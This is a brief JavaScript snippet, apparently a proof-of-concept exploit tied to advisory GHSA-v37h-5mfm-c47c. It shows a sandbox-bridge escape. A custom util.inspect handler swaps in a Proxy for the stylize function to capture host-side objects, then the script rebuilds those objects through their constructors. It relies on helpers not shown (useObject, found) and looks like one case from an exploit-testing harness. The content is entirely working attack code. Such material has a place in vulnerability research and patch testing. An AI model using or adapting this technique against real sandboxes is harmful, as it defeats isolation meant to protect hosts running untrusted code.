// GHSA-v37h-5mfm-c47c
// A handler of the bridge is shown by util.inspect and built again.
const seen = [];
const shown = { [Symbol.for('nodejs.util.inspect.custom')](depth, options) { try { options.stylize = new Proxy(() => 'x', { apply: (t, s, args) => { seen.push(...args, s); return ''; } }); } catch {} return { a: 1 }; } };
console.log(shown, new Proxy({}, {}));
for (const item of seen) { try { await useObject(new item.constructor({})); } catch {} await useObject(item); }
return found;
